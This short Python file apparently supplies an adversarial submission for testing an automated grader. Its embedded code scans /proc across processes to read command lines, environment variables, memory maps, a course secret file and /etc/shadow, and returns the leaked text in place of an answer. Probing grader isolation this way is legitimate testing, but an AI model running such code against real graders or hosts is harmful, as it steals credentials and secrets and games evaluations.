# Reads the memory, arguments and files of the grader through /proc.

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))
from _tools import answer

BODY = r"""
import os
found = []
for process in ["self", str(os.getppid()), *filter(str.isdigit, os.listdir("/proc"))]:
    for name in ("cmdline", "environ", "maps", "cwd/course_secret", "root/etc/shadow"):
        try:
            found.append(open(f"/proc/{process}/{name}", "rb").read(10_000))
        except OSError:
            pass
text = b" ".join(found).decode(errors="replace")
return text if "course_secret" in text or "submitted" in text else 0.5
"""


def spoil(folder: Path) -> None:
    answer(folder, BODY)
